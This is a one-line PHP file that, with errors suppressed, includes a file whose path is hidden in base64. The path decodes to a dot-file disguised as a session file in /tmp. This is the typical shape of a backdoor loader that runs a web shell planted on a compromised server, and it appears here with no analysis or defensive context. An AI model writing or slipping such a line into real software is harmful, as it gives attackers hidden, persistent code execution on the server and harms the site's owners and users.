<?php @include(base64_decode('L3RtcC8uc2Vzc19hYmMucGhw'));
